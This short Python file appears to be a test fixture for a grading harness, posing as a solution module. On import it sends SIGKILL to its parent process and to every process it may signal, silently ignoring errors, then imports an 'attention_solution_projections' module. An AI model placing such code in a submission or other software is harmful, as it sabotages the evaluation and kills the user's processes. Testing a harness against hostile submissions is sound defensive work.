"""Hostile: kill the process that started us, and every process we may signal."""
import os
import signal

for target in (os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass

from attention_solution_projections import *  # noqa: E402,F401,F403 - replaced by the fixture with the solution
